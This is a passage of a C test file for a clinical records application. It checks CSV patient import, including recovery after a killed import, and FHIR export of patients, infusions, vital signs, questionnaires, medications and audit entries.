  mrn = traj_test_query_text (source, "SELECT mrn FROM patient ORDER BY id DESC LIMIT 1");
  expect = g_strdup_printf ("patients.csv:%d: MRN %s is already used by another patient.", CHUNK_SOURCE_PATIENTS + 1, mrn);
  reason = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
  g_assert_cmpstr (reason, ==, expect);
  /* The small clinic and the clinician's patient, nothing else. */
  assert_small_clinic (w.other, 3);
  g_assert_cmpint (count (store, "SELECT count(*) FROM patient"), ==, 3);
  g_assert_cmpint (count (store, "SELECT count(*) FROM trajectory_meta WHERE key LIKE 'hidden-import:%'"), ==, 0);
  g_clear_object (&w.other);
}

/* kill -9 in the middle of an import in hidden chunks: no reader ever sees
 * a part of it, and the next open removes what it left. */
static void
test_import_hidden_killed (Fixture *fx, gconstpointer data)
{
  g_autofree char *dir = path_in (fx, "killed-files");
  g_autofree char *path = path_in (fx, "killed.db");
  g_autoptr(TrajStore) store = NULL;
  g_autoptr(TrajStore) reader = NULL;
  g_autoptr(TrajCsvReport) again = traj_csv_report_new ();
  GError *error = NULL;
  int status = 0;
  gint64 audit_before;
  pid_t pid;

  if (traj_test_skip_on_postgres ("SQLite's write lock"))
    return;
  chunk_setup (fx, "killed.db", dir);
  audit_before = traj_test_query_int (path, "SELECT count(*) FROM audit_event");
  /* A reader that was open all along. */
  reader = open_store (fx, "killed.db");

  pid = fork ();
  g_assert_cmpint (pid, >=, 0);
  if (pid == 0)
    {
      ChunkWatch w = { path, NULL, 0, 0, FALSE, 200 };
      TrajStore *child = traj_store_open (path, NULL);
      TrajCsvReport *r = traj_csv_report_new ();

      g_setenv ("TRAJ_BULK_CHUNK_MS", "0", TRUE);
      if (child)
        {
          traj_bulk_set_pause_func (child, chunk_pause, &w);
          traj_csv_import (child, dir, r, NULL, NULL, NULL, NULL);
        }
      _exit (3);   /* not killed: the test fails below */
    }
  g_assert_cmpint (waitpid (pid, &status, 0), ==, pid);
  g_assert_true (WIFSIGNALED (status));
  g_assert_cmpint (WTERMSIG (status), ==, SIGKILL);

  /* What it committed is in the file, hidden… */
  g_assert_cmpint (traj_test_query_int (path, "SELECT count(*) FROM patient WHERE deleted_at < 0"), ==,
                   CHUNK_SOURCE_PATIENTS);
  g_assert_cmpint (traj_test_query_int (path, "SELECT count(*) FROM trajectory_meta WHERE key LIKE 'hidden-import:%'"),
                   ==, 1);
  /* …from the reader that was open all along. */
  traj_store_poll_external_changes (reader);
  assert_small_clinic (reader, 2);

  /* A clean-up killed after removing 400 patients and 5 records (trial
   * finding 8: those were in no audit event): the next one counts them. */
  g_assert_true (traj_test_exec (path, "INSERT INTO trajectory_meta (key, value) SELECT 'removed-import:' || "
                                       "substr (key, 15), '400 5' FROM trajectory_meta WHERE key LIKE 'hidden-import:%'",
                                 &error));
  g_assert_no_error (error);

  /* The next open removes it, and says so in the trail. */
  store = traj_store_open (path, &error);
  g_assert_no_error (error);
  assert_small_clinic (store, 2);
  g_assert_cmpint (count (store, "SELECT count(*) FROM patient"), ==, 2);
  g_assert_cmpint (count (store, "SELECT count(*) FROM course"), ==, 1);
  g_assert_cmpint (count (store, "SELECT count(*) FROM infusion"), ==, 1);
  g_assert_cmpint (count (store, "SELECT count(*) FROM vital_sign"), ==, 2);
  g_assert_cmpint (count (store, "SELECT count(*) FROM assessment"), ==, 3);
  g_assert_cmpint (count (store, "SELECT count(*) FROM assessment_item"), ==, 11);
  g_assert_cmpint (count (store, "SELECT count(*) FROM trajectory_meta WHERE key LIKE 'hidden-import:%'"), ==, 0);
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE summary = "
                                 "'import: unfinished, removed: 412 hidden patients and their records, "
                                 "5 hidden records of other patients'"), ==, 1);
  g_assert_cmpint (count (store, "SELECT count(*) FROM trajectory_meta WHERE key LIKE 'removed-import:%'"), ==, 0);
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event"), >, audit_before);
  g_assert_true (traj_store_audit_verify (store, NULL, &error));
  g_assert_no_error (error);

  /* The same files then import whole (their uids are free again). */
  g_assert_true (traj_csv_import (store, dir, again, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 2 + CHUNK_SOURCE_PATIENTS);
}

/* ---- FHIR --------------------------------------------------------------------- */

static const char *
member (JsonObject *o, const char *name)
{
  return json_object_get_string_member (o, name);
}

static const char *
first_code (JsonObject *concept)
{
  JsonArray *coding = json_object_get_array_member (concept, "coding");
  return member (json_array_get_object_element (coding, 0), "code");
}

static const char *
optional_member (JsonObject *o, const char *name)
{
  return json_object_has_member (o, name) ? json_object_get_string_member (o, name) : NULL;
}

static gboolean
has_category (JsonObject *resource, const char *code)
{
  JsonArray *cats = json_object_get_array_member (resource, "category");
  JsonObject *cat = json_array_get_object_element (cats, 0);
  return g_str_equal (first_code (cat), code);
}

typedef struct {
  GHashTable *by_url;           /* fullUrl → JsonObject resource */
  guint patients, observations, responses, administrations, bp, heart_rate, resp_rate, spo2, weight;
  guint cadss, moaas;           /* survey Observations in the local code system, part of an infusion */
  guint monitoring, monitoring_open;  /* esketamine monitoring records, and those "in-progress" */
  guint statements;             /* MedicationStatements */
  guint substance_use[TRAJ_N_SUBSTANCE_USES];  /* social-history Observations by value */
} Bundle;

static void
index_bundle (JsonNode *root, Bundle *b)
{
  JsonObject *bundle = json_node_get_object (root);
  JsonArray *entries;

  g_assert_cmpstr (member (bundle, "resourceType"), ==, "Bundle");
  g_assert_cmpstr (member (bundle, "type"), ==, "collection");
  entries = json_object_get_array_member (bundle, "entry");
  b->by_url = g_hash_table_new (g_str_hash, g_str_equal);
  for (guint k = 0; k < json_array_get_length (entries); k++)
    {
      JsonObject *entry = json_array_get_object_element (entries, k);
      JsonObject *res = json_object_get_object_member (entry, "resource");
      const char *url = member (entry, "fullUrl");
      const char *type = member (res, "resourceType");

      g_assert_true (g_str_has_prefix (url, "urn:uuid:"));
      g_assert_true (g_uuid_string_is_valid (url + strlen ("urn:uuid:")));
      g_assert_cmpstr (member (res, "id"), ==, url + strlen ("urn:uuid:"));
      g_assert_false (g_hash_table_contains (b->by_url, url));
      g_hash_table_insert (b->by_url, (gpointer) url, res);
      if (g_str_equal (type, "Patient"))
        b->patients++;
      else if (g_str_equal (type, "QuestionnaireResponse") &&
               g_strcmp0 (optional_member (res, "questionnaire"), TRAJ_FHIR_MONITORING_QUESTIONNAIRE_URL) == 0)
        {
          b->monitoring++;
          b->monitoring_open += g_str_equal (member (res, "status"), "in-progress");
        }
      else if (g_str_equal (type, "QuestionnaireResponse"))
        b->responses++;
      else if (g_str_equal (type, "MedicationStatement"))
        b->statements++;
      else if (g_str_equal (type, "MedicationAdministration"))
        b->administrations++;
      else if (g_str_equal (type, "Observation"))
        {
          const char *code = json_object_has_member (json_object_get_object_member (res, "code"), "coding")
                               ? first_code (json_object_get_object_member (res, "code")) : "";
          if (has_category (res, "survey") && json_object_has_member (res, "partOf"))
            {
              JsonObject *coding = json_array_get_object_element (
                json_object_get_array_member (json_object_get_object_member (res, "code"), "coding"), 0);
              g_assert_cmpstr (member (coding, "system"), ==, TRAJ_SCALE_CODE_SYSTEM);
              g_assert_true (json_object_has_member (res, "valueInteger"));
              if (g_str_equal (code, "cadss"))
                b->cadss++;
              else if (g_str_equal (code, "moaas-lowest"))
                b->moaas++;
              else
                g_assert_not_reached ();
            }
          else if (has_category (res, "survey"))
            b->observations++;
          else if (has_category (res, "social-history"))
            {
              /* Issue 15: the history of substance use, in the local codes. */
              JsonObject *value = json_object_get_object_member (res, "valueCodeableConcept");
              JsonObject *coding = json_array_get_object_element (
                json_object_get_array_member (value, "coding"), 0);
              TrajSubstanceUse use;

              g_assert_cmpstr (code, ==, "substance-use");
              g_assert_cmpstr (member (coding, "system"), ==, TRAJ_FHIR_SUBSTANCE_USE_SYSTEM);
              g_assert_true (traj_substance_use_from_string (member (coding, "code"), &use));
              g_assert_cmpint (use, !=, TRAJ_SUBSTANCE_USE_UNKNOWN);
              g_assert_true (g_str_has_prefix (member (json_object_get_object_member (res, "subject"), "reference"),
                                               "urn:uuid:"));
              b->substance_use[use]++;
            }
          else if (g_str_equal (code, "85354-9"))
            b->bp++;
          else if (g_str_equal (code, "8867-4"))
            b->heart_rate++;
          else if (g_str_equal (code, "9279-1"))
            b->resp_rate++;
          else if (g_str_equal (code, "2708-6"))
            b->spo2++;
          else if (g_str_equal (code, "29463-7"))
            b->weight++;
          else
            g_assert_not_reached ();
        }
      else
        g_assert_not_reached ();
    }
}

static JsonObject *
resolve_first (Bundle *b, JsonObject *reference_holder, const char *name)
{
  JsonObject *ref = json_array_get_object_element (json_object_get_array_member (reference_holder, name), 0);
  JsonObject *target = g_hash_table_lookup (b->by_url, member (ref, "reference"));

  g_assert_nonnull (target);
  return target;
}

static JsonObject *
resolve (Bundle *b, JsonObject *reference_holder, const char *name)
{
  JsonObject *ref = json_object_get_object_member (reference_holder, name);
  JsonObject *target = g_hash_table_lookup (b->by_url, member (ref, "reference"));

  g_assert_nonnull (target);
  return target;
}

static JsonObject *
quantity (JsonObject *o, const char *name, const char *unit)
{
  JsonObject *q = json_object_get_object_member (o, name);

  g_assert_cmpstr (member (q, "system"), ==, "http://unitsofmeasure.org");
  g_assert_cmpstr (member (q, "code"), ==, unit);
  return q;
}

static void
check_resources (Bundle *b, TrajStore *store, JsonNode *root)
{
  JsonArray *entries = json_object_get_array_member (json_node_get_object (root), "entry");

  for (guint k = 0; k < json_array_get_length (entries); k++)
    {
      JsonObject *res = json_object_get_object_member (json_array_get_object_element (entries, k), "resource");
      const char *type = member (res, "resourceType");

      if (g_str_equal (type, "Patient"))
        continue;
      g_assert_cmpstr (member (resolve (b, res, "subject"), "resourceType"), ==, "Patient");
      if (g_str_equal (type, "Observation") && has_category (res, "survey"))
        {
          JsonObject *code = json_object_get_object_member (res, "code");
          const char *text = member (code, "text");
          JsonArray *derived;
          JsonObject *qr;
          JsonArray *items;
          gint64 sum = 0;

          g_assert_cmpstr (member (res, "status"), ==, "final");
          g_assert_true (json_object_has_member (res, "effectiveDateTime"));
          if (json_object_has_member (res, "partOf"))
            {
              /* CADSS and MOAA/S: part of their infusion, no questionnaire. */
              g_assert_cmpstr (member (resolve_first (b, res, "partOf"), "resourceType"), ==,
                               "MedicationAdministration");
              g_assert_false (json_object_has_member (res, "derivedFrom"));
              continue;
            }
          if (g_str_has_prefix (text, "MADRS") || g_str_has_prefix (text, "Y-BOCS"))
            {
              /* No LOINC total: coded in Trajectory's own code system. */
              JsonObject *coding = json_array_get_object_element (json_object_get_array_member (code, "coding"), 0);
              g_assert_cmpstr (member (coding, "system"), ==, TRAJ_SCALE_CODE_SYSTEM);
              g_assert_cmpstr (member (coding, "code"), ==, g_str_has_prefix (text, "MADRS") ? "madrs" : "ybocs");
              g_assert_false (json_object_has_member (res, "derivedFrom"));
              continue;
            }
          derived = json_object_get_array_member (res, "derivedFrom");
          qr = g_hash_table_lookup (b->by_url, member (json_array_get_object_element (derived, 0), "reference"));
          g_assert_nonnull (qr);
          g_assert_cmpstr (member (qr, "resourceType"), ==, "QuestionnaireResponse");
          g_assert_cmpstr (member (qr, "authored"), ==, member (res, "effectiveDateTime"));
          items = json_object_get_array_member (qr, "item");
          for (guint i = 0; i < json_array_get_length (items); i++)
            {
              JsonObject *item = json_array_get_object_element (items, i);
              JsonObject *answer = json_array_get_object_element (json_object_get_array_member (item, "answer"), 0);
              if (g_str_equal (member (item, "linkId"), "69722-7"))
                continue;     /* the PHQ-9 difficulty question: not scored */
              sum += json_object_get_int_member (answer, "valueInteger");
            }
          /* The total is the sum of the answered items. */
          g_assert_cmpint (sum, ==, json_object_get_int_member (res, "valueInteger"));
          if (g_str_equal (first_code (code), "44261-6"))
            {
              static const char *phq9[] = { "44250-9", "44255-8", "44259-0", "44254-1", "44251-7",
                                            "44258-2", "44252-5", "44253-3", "44260-8" };
              for (guint i = 0; i < G_N_ELEMENTS (phq9); i++)
                g_assert_cmpstr (member (json_array_get_object_element (items, i), "linkId"), ==, phq9[i]);
            }
          else if (g_str_equal (first_code (code), "70274-6"))
            g_assert_cmpstr (member (json_array_get_object_element (items, 1), "linkId"), ==, "68509-9");
          else
            g_assert_true (g_str_equal (first_code (code), "72514-3") || g_str_equal (first_code (code), "101698-9"));
        }
      else if (g_str_equal (type, "Observation") && has_category (res, "social-history"))
        continue;     /* the history of substance use: checked by index_bundle () */
      else if (g_str_equal (type, "Observation"))
        {
          JsonArray *part_of = json_object_get_array_member (res, "partOf");
          JsonObject *ma = g_hash_table_lookup (b->by_url, member (json_array_get_object_element (part_of, 0), "reference"));
          const char *code = first_code (json_object_get_object_member (res, "code"));

          g_assert_true (has_category (res, "vital-signs"));
          g_assert_cmpstr (member (ma, "resourceType"), ==, "MedicationAdministration");
          if (g_str_equal (code, "85354-9"))
            {
              JsonArray *comp = json_object_get_array_member (res, "component");
              JsonObject *sys = json_array_get_object_element (comp, 0);
              JsonObject *dia = json_array_get_object_element (comp, 1);
              g_assert_cmpstr (first_code (json_object_get_object_member (sys, "code")), ==, "8480-6");
              g_assert_cmpstr (first_code (json_object_get_object_member (dia, "code")), ==, "8462-4");
              g_assert_cmpint (json_object_get_int_member (quantity (sys, "valueQuantity", "mm[Hg]"), "value"), >,
                               json_object_get_int_member (quantity (dia, "valueQuantity", "mm[Hg]"), "value"));
            }
          else if (g_str_equal (code, "8867-4") || g_str_equal (code, "9279-1"))
            quantity (res, "valueQuantity", "/min");
          else if (g_str_equal (code, "2708-6"))
            quantity (res, "valueQuantity", "%");
          else
            quantity (res, "valueQuantity", "kg");
        }
      else if (g_str_equal (type, "MedicationAdministration"))
        {
          JsonObject *dosage = json_object_get_object_member (res, "dosage");
          JsonObject *period = json_object_get_object_member (res, "effectivePeriod");

          g_assert_cmpstr (member (res, "status"), ==, "completed");
          g_assert_cmpstr (member (json_object_get_object_member (res, "medicationReference"), "reference"), ==, "#medicine");
          g_assert_cmpstr (member (json_array_get_object_element (json_object_get_array_member (
                             json_object_get_object_member (dosage, "route"), "coding"), 0), "system"), ==,
                           "http://snomed.info/sct");
          quantity (dosage, "dose", "mg");
          g_assert_cmpstr (member (period, "start"), <, member (period, "end"));
        }
    }
}

/* One esketamine session's monitoring record and one medicine, value by
 * value: the form's answers, the session and its blood pressures by
 * reference; the class, days and dose of the medicine. */
static void
check_monitoring_and_medicines (Bundle *b, TrajStore *store)
{
  g_autoptr(GPtrArray) list = NULL;
  gboolean seen_session = FALSE, seen_medicine = FALSE;
  GError *error = NULL;

  list = traj_store_list_patients (store, &error);
  g_assert_no_error (error);
  for (guint k = 0; k < list->len && !(seen_session && seen_medicine); k++)
    {
      g_autoptr(TrajPatientRecords) r =
        traj_store_load_patient_records (store, ((TrajPatientSummary *) g_ptr_array_index (list, k))->id, &error);

      g_assert_no_error (error);
      for (guint j = 0; j < r->infusions->len && !seen_session; j++)
        {
          const TrajInfusion *i = g_ptr_array_index (r->infusions, j);
          GHashTableIter it;
          gpointer url, value;
          JsonObject *qr = NULL;
          JsonArray *items;
          guint answered = 0;

          if (!traj_rems_applies (i) || i->rems_adverse != 1)
            continue;
          seen_session = TRUE;
          g_hash_table_iter_init (&it, b->by_url);
          while (qr == NULL && g_hash_table_iter_next (&it, &url, &value))
            {
              JsonObject *res = value;
              JsonArray *its = json_object_has_member (res, "item") ? json_object_get_array_member (res, "item") : NULL;
              JsonObject *first = its ? json_array_get_object_element (its, 0) : NULL;
              g_autofree char *session = g_strconcat ("urn:uuid:", i->uid, NULL);

              if (g_strcmp0 (optional_member (res, "questionnaire"), TRAJ_FHIR_MONITORING_QUESTIONNAIRE_URL) == 0 &&
                  g_str_equal (member (first, "linkId"), "session") &&
                  g_str_equal (member (json_object_get_object_member (
                                 json_array_get_object_element (json_object_get_array_member (first, "answer"), 0),
                                 "valueReference"), "reference"), session))
                qr = res;
            }
          g_assert_nonnull (qr);
          items = json_object_get_array_member (qr, "item");
          for (guint n = 0; n < json_array_get_length (items); n++)
            {
              JsonObject *item = json_array_get_object_element (items, n);
              const char *link = member (item, "linkId");
              JsonObject *answer = json_array_get_object_element (json_object_get_array_member (item, "answer"), 0);

              if (g_str_equal (link, "sedation"))
                {
                  g_assert_cmpint (json_object_get_boolean_member (answer, "valueBoolean"), ==, i->rems_sedation);
                  answered++;
                }
              else if (g_str_equal (link, "rems-patient-id"))
                {
                  g_assert_cmpstr (member (answer, "valueString"), ==, i->rems_patient_id);
                  answered++;
                }
              else if (g_str_equal (link, "adverse-events-description"))
                {
                  g_assert_cmpstr (member (answer, "valueString"), ==, i->rems_adverse_note);
                  answered++;
                }
              else if (g_str_equal (link, "bp-after-40"))
                {
                  JsonObject *ref = json_object_get_object_member (answer, "valueReference");
                  JsonObject *bp = g_hash_table_lookup (b->by_url, member (ref, "reference"));

                  g_assert_nonnull (bp);
                  g_assert_cmpstr (first_code (json_object_get_object_member (bp, "code")), ==, "85354-9");
                  answered++;
                }
              else if (g_str_equal (link, "monitoring-minutes"))
                {
                  g_assert_cmpint (json_object_get_int_member (answer, "valueInteger"), ==, i->monitoring_min);
                  answered++;
                }
            }
          g_assert_cmpuint (answered, ==, 5);
        }
      for (guint j = 0; j < r->medications->len && !seen_medicine; j++)
        {
          const TrajMedication *m = g_ptr_array_index (r->medications, j);
          g_autofree char *patient = g_strconcat ("urn:uuid:", r->patient->uid, NULL);
          g_autofree char *start = traj_day_to_iso (m->start_day);
          JsonObject *ms = NULL;
          GHashTableIter it;
          gpointer url, value;

          if (m->start_day == TRAJ_DAY_NONE || m->dose == NULL || *m->dose == '\0')
            continue;
          seen_medicine = TRUE;
          /* Its id is derived from its uid (not a UUID in the demo clinic). */
          g_hash_table_iter_init (&it, b->by_url);
          while (ms == NULL && g_hash_table_iter_next (&it, &url, &value))
            if (g_str_equal (member (value, "resourceType"), "MedicationStatement") &&
                g_str_equal (member (json_object_get_object_member (value, "subject"), "reference"), patient) &&
                g_str_equal (member (json_object_get_object_member (value, "medicationCodeableConcept"), "text"),
                             m->name))
              ms = value;
          g_assert_nonnull (ms);
          g_assert_cmpstr (member (ms, "resourceType"), ==, "MedicationStatement");
          g_assert_cmpstr (member (json_object_get_object_member (ms, "medicationCodeableConcept"), "text"), ==, m->name);
          g_assert_cmpstr (first_code (json_object_get_object_member (ms, "category")), ==,
                           traj_med_class_to_string (m->klass));
          g_assert_cmpstr (member (json_object_get_object_member (ms, "effectivePeriod"), "start"), ==, start);
          g_assert_cmpstr (member (json_array_get_object_element (json_object_get_array_member (ms, "dosage"), 0), "text"),
                           ==, m->dose);
          g_assert_cmpstr (member (ms, "status"), ==,
                           m->stop_day != TRAJ_DAY_NONE && m->stop_day < traj_day_today () ? "completed" : "active");
        }
    }
  g_assert_true (seen_session);
  g_assert_true (seen_medicine);
}

static void
test_fhir (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = demo_store (fx, "fhir.db", 40);
  g_autofree char *file = path_in (fx, "bundle.json");
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GPtrArray) list = NULL;
  g_autoptr(TrajPatientRecords) r = NULL;
  Bundle b = { 0 };
  JsonNode *root;
  GError *error = NULL;
  gint64 complete_scored, complete_madrs, vitals_bp, vitals_hr;
  GStatBuf st;

  g_assert_true (traj_fhir_export (store, NULL, file, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpint (g_stat (file, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);
  g_assert_true (json_parser_load_from_file (parser, file, &error));
  g_assert_no_error (error);
  root = json_parser_get_root (parser);
  index_bundle (root, &b);

  complete_scored = count (store, "SELECT count(*) FROM assessment WHERE complete = 1 AND deleted_at IS NULL AND scale NOT IN ('madrs', 'ybocs')");
  complete_madrs = count (store, "SELECT count(*) FROM assessment WHERE complete = 1 AND deleted_at IS NULL AND scale IN ('madrs', 'ybocs')");
  vitals_bp = count (store, "SELECT count(*) FROM vital_sign WHERE systolic IS NOT NULL");
  vitals_hr = count (store, "SELECT count(*) FROM vital_sign WHERE heart_rate IS NOT NULL");
  g_assert_cmpuint (b.patients, ==, 40);
  /* Issue 15: one Observation per recorded history of substance use, by value. */
  g_assert_cmpuint (b.substance_use[TRAJ_SUBSTANCE_USE_NONE], ==,
                    count (store, "SELECT count(*) FROM patient WHERE substance_use = 'none' AND deleted_at IS NULL"));
  g_assert_cmpuint (b.substance_use[TRAJ_SUBSTANCE_USE_PAST], ==,
                    count (store, "SELECT count(*) FROM patient WHERE substance_use = 'past' AND deleted_at IS NULL"));
  g_assert_cmpuint (b.substance_use[TRAJ_SUBSTANCE_USE_CURRENT], ==,
                    count (store, "SELECT count(*) FROM patient WHERE substance_use = 'current' AND deleted_at IS NULL"));
  g_assert_cmpuint (b.substance_use[TRAJ_SUBSTANCE_USE_PAST], >, 0);
  g_assert_cmpuint (b.observations, ==, complete_scored + complete_madrs);
  g_assert_cmpuint (b.responses, ==, complete_scored);
  g_assert_cmpuint (b.administrations, ==, traj_store_count (store, TRAJ_KIND_INFUSION, NULL));
  g_assert_cmpuint (b.weight, ==, count (store, "SELECT count(*) FROM infusion WHERE weight_kg > 0"));
  g_assert_cmpuint (b.bp, ==, vitals_bp);
  g_assert_cmpuint (b.heart_rate, ==, vitals_hr);
  g_assert_cmpuint (b.spo2, ==, count (store, "SELECT count(*) FROM vital_sign WHERE spo2 IS NOT NULL"));
  g_assert_cmpuint (b.resp_rate, ==, count (store, "SELECT count(*) FROM vital_sign WHERE resp_rate IS NOT NULL"));
  /* CLINICAL.md §8: one Observation per recorded CADSS total and lowest MOAA/S. */
  g_assert_cmpuint (b.cadss, ==, count (store, "SELECT count(*) FROM infusion WHERE cadss_total IS NOT NULL"));
  g_assert_cmpuint (b.moaas, ==, count (store, "SELECT count(*) FROM infusion WHERE moaas_lowest IS NOT NULL"));
  g_assert_cmpuint (b.cadss, >, 0);
  /* CLINICAL.md §8: a monitoring record per esketamine nasal session, in
   * progress while a question is unanswered; a MedicationStatement per
   * medicine. */
  g_assert_cmpuint (b.monitoring, ==, count (store, "SELECT count(*) FROM infusion WHERE route = 'intranasal' "
                                                    "AND medicine = 'esketamine'"));
  g_assert_cmpuint (b.monitoring, >, 0);
  g_assert_cmpuint (b.monitoring_open, ==, count (store, "SELECT count(*) FROM infusion WHERE route = 'intranasal' "
                                                         "AND (rems_monitored_by IS NULL OR rems_vitals_ok_leaving IS NULL "
                                                         "OR rems_resp_depression IS NULL)"));
  g_assert_cmpuint (b.monitoring_open, >, 0);
  g_assert_cmpuint (b.statements, ==, count (store, "SELECT count(*) FROM medication"));
  g_assert_cmpuint (b.statements, >, 0);
  check_monitoring_and_medicines (&b, store);
  check_resources (&b, store, root);

  /* One infusion, value by value. */
  list = traj_store_list_patients (store, &error);
  g_assert_no_error (error);
  for (guint k = 0; k < list->len && (r == NULL || r->infusions->len == 0); k++)
    {
      g_clear_pointer (&r, traj_patient_records_free);
      r = traj_store_load_patient_records (store, ((TrajPatientSummary *) g_ptr_array_index (list, k))->id, &error);
      g_assert_no_error (error);
    }
  {
    const TrajInfusion *i = g_ptr_array_index (r->infusions, 0);
    g_autofree char *url = g_strconcat ("urn:uuid:", i->uid, NULL);
    g_autofree char *start = traj_time_to_iso (i->started_at);
    g_autofree char *end = traj_time_to_iso (i->started_at + i->duration_min * 60);
    JsonObject *ma = g_hash_table_lookup (b.by_url, url);
    JsonObject *dosage, *period, *patient;

    g_assert_nonnull (ma);
    dosage = json_object_get_object_member (ma, "dosage");
    period = json_object_get_object_member (ma, "effectivePeriod");
    g_assert_cmpstr (member (period, "start"), ==, start);
    g_assert_cmpstr (member (period, "end"), ==, end);
    g_assert_cmpfloat_with_epsilon (json_object_get_double_member (json_object_get_object_member (dosage, "dose"), "value"),
                                    i->total_mg, 1e-9);
    g_assert_cmpstr (first_code (json_object_get_object_member (dosage, "route")), ==, traj_fhir_route_snomed (i->route));
    patient = resolve (&b, ma, "subject");
    g_assert_cmpstr (member (patient, "id"), ==, r->patient->uid);
    g_assert_cmpstr (member (json_array_get_object_element (json_object_get_array_member (patient, "identifier"), 0), "value"),
                     ==, r->patient->mrn);
    /* An infusion's CADSS total: valued, and part of that infusion. */
    {
      const TrajInfusion *with = NULL;
      g_autofree char *with_url = NULL;
      GHashTableIter it;
      gpointer value;
      guint found = 0;

      for (guint k = 0; k < r->infusions->len && with == NULL; k++)
        if (((const TrajInfusion *) g_ptr_array_index (r->infusions, k))->cadss_total >= 0)
          with = g_ptr_array_index (r->infusions, k);
      g_assert_nonnull (with);
      with_url = g_strconcat ("urn:uuid:", with->uid, NULL);
      g_hash_table_iter_init (&it, b.by_url);
      while (g_hash_table_iter_next (&it, NULL, &value))
        if (json_object_has_member (value, "partOf") && json_object_has_member (value, "valueInteger") &&
            g_str_equal (first_code (json_object_get_object_member (value, "code")), "cadss") &&
            g_str_equal (member (json_array_get_object_element (json_object_get_array_member (value, "partOf"), 0),
                                 "reference"), with_url))
          {
            g_assert_cmpint (json_object_get_int_member (value, "valueInteger"), ==, with->cadss_total);
            found++;
          }
      g_assert_cmpuint (found, ==, 1);
    }
    if (!traj_dose_is_fixed (i->route, i->medicine))
      {
        JsonArray *notes = json_object_get_array_member (ma, "note");
        g_assert_nonnull (strstr (member (json_array_get_object_element (notes, 0), "text"), "mg/kg"));
      }
  }
  g_hash_table_destroy (b.by_url);

  /* One patient by MRN. */
  {
    g_autoptr(JsonNode) one = traj_fhir_build_bundle (store, r->patient->mrn, NULL, NULL, NULL, &error);
    Bundle ob = { 0 };

    g_assert_no_error (error);
    index_bundle (one, &ob);
    g_assert_cmpuint (ob.patients, ==, 1);
    g_assert_cmpuint (ob.administrations, ==, r->infusions->len);
    check_resources (&ob, store, one);
    g_hash_table_destroy (ob.by_url);
  }
  g_assert_null (traj_fhir_build_bundle (store, "no-such-mrn", NULL, NULL, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_NOT_FOUND);
  g_clear_error (&error);

  /* Issue 16: one patient's export was audited as "the whole clinic". It
   * names the patient, and the Audit Trail's patient filter finds it; the
   * whole clinic's export above names nobody. */
  {
    g_autofree char *one_file = path_in (fx, "one.json");
    g_autofree char *expect = g_strdup_printf ("FHIR export of MRN %s: 1 patient", r->patient->mrn);
    g_autofree char *to = g_strdup_printf ("to: %s\npatient: %s\n", one_file, r->patient->uid);
    TrajAuditFilter f = { .patient_uid = r->patient->uid, .action = "export",
                          .from = TRAJ_TIME_NONE, .to = TRAJ_TIME_NONE };
    TrajAuditFilter all = { .action = "export", .from = TRAJ_TIME_NONE, .to = TRAJ_TIME_NONE };
    g_autoptr(GPtrArray) mine = NULL, exports = NULL;
    const TrajAuditEvent *e;

    g_assert_true (traj_fhir_export (store, r->patient->mrn, one_file, NULL, NULL, NULL, &error));
    g_assert_no_error (error);
    mine = traj_store_list_audit_filtered (store, &f, &error);
    g_assert_no_error (error);
    g_assert_cmpuint (mine->len, ==, 1);
    e = g_ptr_array_index (mine, 0);
    g_assert_cmpstr (e->summary, ==, expect);
    g_assert_cmpstr (e->patient_uid, ==, r->patient->uid);
    g_assert_cmpstr (e->record_kind, ==, "patient");
    g_assert_cmpstr (e->detail, ==, to);
    exports = traj_store_list_audit_filtered (store, &all, &error);
    g_assert_no_error (error);
    g_assert_cmpuint (exports->len, ==, 2);
    e = g_ptr_array_index (exports, 1);
    g_assert_cmpstr (e->summary, ==, "FHIR export: the whole clinic");
    g_assert_cmpstr (e->patient_uid, ==, "");
  }
}

static void
test_codes (void)
{
  g_assert_cmpstr (traj_fhir_route_snomed (TRAJ_ROUTE_IV), ==, "47625008");
  g_assert_cmpstr (traj_fhir_route_snomed (TRAJ_ROUTE_IM), ==, "78421000");
  g_assert_cmpstr (traj_fhir_route_snomed (TRAJ_ROUTE_INTRANASAL), ==, "46713006");
  g_assert_cmpstr (traj_fhir_route_snomed (TRAJ_ROUTE_ORAL), ==, "26643006");
  g_assert_cmpstr (traj_fhir_total_loinc (TRAJ_SCALE_PHQ9), ==, "44261-6");
  g_assert_cmpstr (traj_fhir_total_loinc (TRAJ_SCALE_GAD7), ==, "70274-6");
  g_assert_cmpstr (traj_fhir_total_loinc (TRAJ_SCALE_PCL5), ==, "101698-9");
  g_assert_null (traj_fhir_total_loinc (TRAJ_SCALE_MADRS));
  /* FHIR codes what the scale table says, for every scale. */
  for (const TrajScale *s = traj_scale_next (NULL); s; s = traj_scale_next (s))
    g_assert_cmpstr (traj_fhir_total_loinc (s->id), ==, s->loinc_total);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/exchange/csv/reader-quoting", test_reader_quoting);
  g_test_add_func ("/exchange/csv/reader-bad-records", test_reader_bad_records);
  g_test_add_func ("/exchange/csv/reader-chunks", test_reader_chunks);
  g_test_add_func ("/exchange/csv/reader-record-limit", test_reader_record_limit);
  g_test_add ("/exchange/csv/import-too-long", Fixture, NULL, fixture_setup, test_import_too_long, fixture_teardown);
  g_test_add ("/exchange/csv/round-trip", Fixture, NULL, fixture_setup, test_round_trip, fixture_teardown);
  g_test_add ("/exchange/csv/small-import", Fixture, NULL, fixture_setup, test_small_import, fixture_teardown);
  g_test_add ("/exchange/csv/bom-lf-single-file", Fixture, NULL, fixture_setup, test_bom_lf_and_single_file, fixture_teardown);
  for (guint k = 0; k < G_N_ELEMENTS (bad_rows); k++)
    {
      g_autofree char *name = g_strdup_printf ("/exchange/csv/bad-row/%s", bad_rows[k].name);
      g_test_add (name, Fixture, &bad_rows[k], fixture_setup, test_bad_row, fixture_teardown);
    }
